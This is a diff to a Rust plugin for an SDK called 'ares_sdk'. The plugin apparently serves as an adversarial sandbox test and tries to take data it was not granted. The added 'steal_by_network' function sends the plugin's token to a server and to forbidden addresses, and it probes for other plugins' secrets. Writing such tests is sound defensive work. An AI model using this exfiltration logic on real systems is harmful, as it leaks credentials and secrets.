@@ -1,7 +1,7 @@
 //! Tries to steal whatever it was not granted, and answers what it got.
 use std::{collections::BTreeMap, env, fs, io::Read as _, path::Path};
 
-use ares_sdk::{Failure, call, kv, schemars::JsonSchema, serde::Serialize};
+use ares_sdk::{Failure, call, http, kv, schemars::JsonSchema, secrets, serde::Serialize};
 
 /// Where the state directory and other secrets lie on the machine, which a real thief would guess.
 #[ares_sdk::data]
@@ -10,6 +10,17 @@ pub struct Places {
     paths: Vec<String>,
     /// Keys of other plugins' stores.
     keys: Vec<String>,
+}
+
+/// Where a thief on the network would look.
+#[ares_sdk::data]
+pub struct Ways {
+    /// A server it may reach, which gives back what it gets.
+    home: String,
+    /// Addresses it may not reach.
+    away: Vec<String>,
+    /// Secrets of others.
+    secrets: Vec<String>,
 }
 
 /// What each attempt gave: `got: …` or why not.
@@ -103,6 +114,41 @@ impl Loot {
     }
 }
 
+/// What a request brought.
+fn sent(request: http::Request) -> Result<Vec<u8>, String> {
+    let response = request.send().map_err(|error| error.to_string())?;
+    let mut loot = format!("{:?}", response.headers).into_bytes();
+    loot.extend(response.bytes(1 << 20).map_err(|error| error.to_string())?);
+    Ok(loot)
+}
+
+/// Spends the secret it was granted at a server that gives it back, and looks for its value; then tries
+/// addresses and secrets that are not its own.
+#[ares_sdk::capability(effect = "network")]
+pub fn steal_by_network(input: Ways) -> Result<Loot, Failure> {
+    let mut loot = Loot::default();
+    let own = secrets::open("OWN_TOKEN")?.placeholder();
+    let home = input.home.as_str();
+    let spent = http::get(format!("{home}?token={own}")).header("authorization", format!("Bearer {own}"));
+    loot.note("spent".to_owned(), sent(spent));
+    for url in &input.away {
+        loot.note(format!("away {url}"), sent(http::get(url.as_str())));
+        loot.note(
+            format!("carry away to {url}"),
+            sent(http::get(format!("{url}?{own}")).header("x-token", own.as_str())),
+        );
+    }
+    for name in &input.secrets {
+        let opened = secrets::open(name).map(|secret| secret.placeholder());
+        loot.note(format!("open {name}"), opened.map_err(|error| Failure::from(error).message));
+        let placeholder = format!("{{{{{name}}}}}");
+        loot.note(format!("guess {name}"), sent(http::get(home).header("authorization", placeholder)));
+    }
+    let literal = http::get(home).header("cookie", "session=1");
+    loot.note("credentials of its own".to_owned(), sent(literal));
+    Ok(loot)
+}
+
 fn steal(places: &Places) -> Loot {
     let mut loot = Loot::default();
     loot.environment();
@@ -124,4 +170,4 @@ pub fn steal_with_a_little(input: Places) -> Result<Loot, Failure> {
     Ok(steal(&input))
 }
 
-ares_sdk::plugin! { capabilities: [steal_with_nothing, steal_with_a_little] }
+ares_sdk::plugin! { capabilities: [steal_with_nothing, steal_with_a_little, steal_by_network] }
